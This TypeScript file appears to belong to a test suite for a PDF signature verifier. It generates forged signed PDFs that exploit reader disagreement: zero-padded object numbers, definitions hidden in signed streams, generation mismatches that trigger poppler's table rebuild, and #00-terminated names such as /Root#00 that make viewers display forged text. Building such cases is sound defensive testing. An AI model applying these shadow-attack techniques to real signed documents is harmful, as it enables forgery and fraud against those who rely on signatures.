import { PdfDict, PdfRef } from '../../../src/core/pdf/objects.js';
import { serializeValue } from '../../../src/core/pdf-write/serialize.js';
import { FORGED_MARKER, forgedText } from '../lib/content-change.js';
import type { AttackContext, Generator } from '../lib/context.js';
import { contentStream, firstContentRef, layoutOf, withKeys, type SignedLayout } from '../lib/inspect.js';
import { appendRaw, type RawObject } from '../lib/raw.js';

/**
 * More reader disagreement (docs/verifier-defences.md): triggers of poppler's table rebuild that are not xref rows
 * (a reference under another generation), definitions the scan could miss (zero-padded numbers, the
 * data of a stream signed as it was), and names ending in #00, which C-string readers cut there.
 */

/** A definition of the page's content object drawing the forged text, under the header `header(num)`. */
function hiddenContent(l: SignedLayout, header: (num: number) => string): Buffer {
  const page = l.pages[l.pages.length - 1]!;
  const text = forgedText(page);
  return Buffer.from(`${header(firstContentRef(page).num)}\n<< /Length ${text.length} >>\nstream\n${text}\nendstream\nendobj\n`, 'latin1');
}

/** An unreferenced stream whose data is `data` (starting on a line of its own). */
function carrierStream(num: number, data: Buffer): RawObject {
  return { num, body: Buffer.concat([Buffer.from(`<< /Length ${data.length + 1} >>\nstream\n\n`), data, Buffer.from('\nendstream')]) };
}

/** A new information dictionary that the trailer names under generation 1 while it is defined under 0. */
function infoUnderOtherGeneration(num: number): { object: RawObject; trailerExtra: string } {
  return { object: { num, body: '<< /Producer (x) >>' }, trailerExtra: ` /Info ${num} 1 R` };
}

async function paddedNumberDefinition(ctx: AttackContext): Promise<Buffer> {
  const signed = await ctx.base('plain');
  const l = layoutOf(signed);
  const t = infoUnderOtherGeneration(l.file.size);
  const hidden = hiddenContent(l, (num) => `${String(num).padStart(13, '0')} 0 obj`);
  return appendRaw(signed, [t.object, carrierStream(l.file.size + 1, hidden)], { trailerExtra: t.trailerExtra }).bytes;
}

/** The definition rides in a stream of the uploaded file, signed as it is; afterwards only the trigger is added. */
async function definitionInSignedStream(ctx: AttackContext): Promise<Buffer> {
  const unsigned = await ctx.base('unsigned');
  const ul = layoutOf(unsigned);
  const signed = await ctx.sign(appendRaw(unsigned, [carrierStream(ul.file.size, hiddenContent(ul, (num) => `${num} 0 obj`))]).bytes);
  const l = layoutOf(signed);
  const t = infoUnderOtherGeneration(l.file.size);
  return appendRaw(signed, [t.object], { trailerExtra: t.trailerExtra }).bytes;
}

/** An unsigned signature widget added to /Fields and the page's /Annots, its dictionary written as `body`. */
function newWidget(l: SignedLayout, num: number, body: string): RawObject[] {
  const page = l.pages[l.pages.length - 1]!;
  const formRef = l.catalog.get('AcroForm') as PdfRef;
  const form = l.file.resolve(formRef) as PdfDict;
  const annots = (l.file.get(page.dict, 'Annots') as PdfRef[] | undefined) ?? [];
  return [
    { num, body },
    { num: formRef.num, body: withKeys(form, { Fields: [...(form.get('Fields') as PdfRef[]), new PdfRef(num, 0)] }) },
    { num: page.ref.num, body: withKeys(page.dict, { Annots: [...annots, new PdfRef(num, 0)] }) },
  ];
}

/** A widget whose appearance paints the forged text, with `keys` deciding where, as each reader reads them. */
async function widgetWithNulName(ctx: AttackContext, keys: (ap: string) => string): Promise<Buffer> {
  const signed = await ctx.base('plain');
  const l = layoutOf(signed);
  const n = l.file.size;
  const font = [...(l.file.getDict(l.pages[0]!.resources!, 'Font')!.map.values())][0] as PdfRef;
  const text = `BT /F1 24 Tf 10 50 Td (${FORGED_MARKER}) Tj ET`;
  const ap = { num: n + 1, body: `<< /Type /XObject /Subtype /Form /BBox [0 0 500 100] /Resources << /Font << /F1 ${font.num} 0 R >> >> /Length ${text.length} >>\nstream\n${text}\nendstream` };
  const page = l.pages[l.pages.length - 1]!;
  const widget = `<< /Type /Annot /Subtype /Widget /FT /Sig /T (extra) /F 4 /P ${page.ref.num} 0 R ${keys(`<< /N ${n + 1} 0 R >>`)} >>`;
  return appendRaw(signed, [...newWidget(l, n, widget), ap]).bytes;
}

/** /Root#00 names a forged document; its objects hang off a new /Info, as if they were information. */
async function rootNulThroughInfo(ctx: AttackContext): Promise<Buffer> {
  const signed = await ctx.base('plain');
  const l = layoutOf(signed);
  const n = l.file.size;
  const page = l.pages[0]!;
  const [info, catalog, pages, pageNum, content] = [n, n + 1, n + 2, n + 3, n + 4];
  const pageBody = serializeValue(withKeys(page.dict, { Contents: new PdfRef(content, 0), Parent: new PdfRef(pages, 0), Annots: undefined }));
  return appendRaw(signed, [
    { num: info, body: `<< /Producer (x) /Doc ${catalog} 0 R >>` },
    { num: catalog, body: `<< /Type /Catalog /Pages ${pages} 0 R >>` },
    { num: pages, body: `<< /Type /Pages /Kids [${pageNum} 0 R] /Count 1 >>` },
    { num: pageNum, body: pageBody },
    { num: content, body: contentStream(forgedText(page)) },
  ], { trailerExtra: ` /Info ${info} 0 R /Root#00 ${catalog} 0 R` }).bytes;
}

export const repairTriggerGenerators: Record<string, Generator> = {
  'repair-reference-generation-padded-definition': paddedNumberDefinition,
  'repair-reference-generation-signed-stream-definition': definitionInSignedStream,
  'nul-name-widget-rect': (ctx) => widgetWithNulName(ctx, (ap) => `/Rect [0 0 0 0] /AP ${ap} /Rect#00 [50 600 550 700]`),
  'nul-name-widget-ap': (ctx) => widgetWithNulName(ctx, (ap) => `/Rect [50 600 550 700] /AP#00 ${ap}`),
  'nul-name-root-through-info': rootNulThroughInfo,
};
